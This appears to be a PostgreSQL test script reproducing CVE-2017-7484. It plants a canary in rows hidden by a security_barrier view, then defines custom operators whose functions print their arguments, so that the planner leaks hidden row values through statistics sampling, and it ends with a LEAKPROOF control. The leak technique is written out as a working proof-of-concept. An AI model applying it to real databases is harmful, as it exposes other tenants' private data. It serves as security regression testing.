-- way: have the planner call an operator of the application on the sampled values of rows that a view hides
-- source: CVE-2017-7484
-- control: a superuser's function, which the operator calls, is LEAKPROOF
-- section: setup
CREATE TABLE vault.calls (tenant text, phone text);
INSERT INTO vault.calls SELECT 'bank', :'canary' FROM generate_series(1, 50);
INSERT INTO vault.calls SELECT 'shop', '1' FROM generate_series(1, 50);
ANALYZE vault.calls;
CREATE VIEW shop.calls WITH (security_barrier) AS SELECT * FROM vault.calls WHERE tenant = 'shop';
GRANT SELECT ON shop.calls TO PUBLIC;
CREATE FUNCTION ext.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1 = $2; END $$;
-- section: application
CREATE OPERATOR shop.=== (FUNCTION = ext.same, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel);
EXPLAIN SELECT * FROM shop.calls WHERE phone OPERATOR(shop.===) 'x';
CREATE OPERATOR pg_temp.=== (FUNCTION = ext.same, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel);
EXPLAIN SELECT * FROM shop.calls WHERE phone OPERATOR(pg_temp.===) 'x';
CREATE FUNCTION shop.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1 = $2; END $$;
CREATE OPERATOR shop.==== (FUNCTION = shop.same, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel);
EXPLAIN SELECT * FROM shop.calls WHERE phone OPERATOR(shop.====) 'x';
-- section: control
ALTER FUNCTION ext.same(text, text) LEAKPROOF;
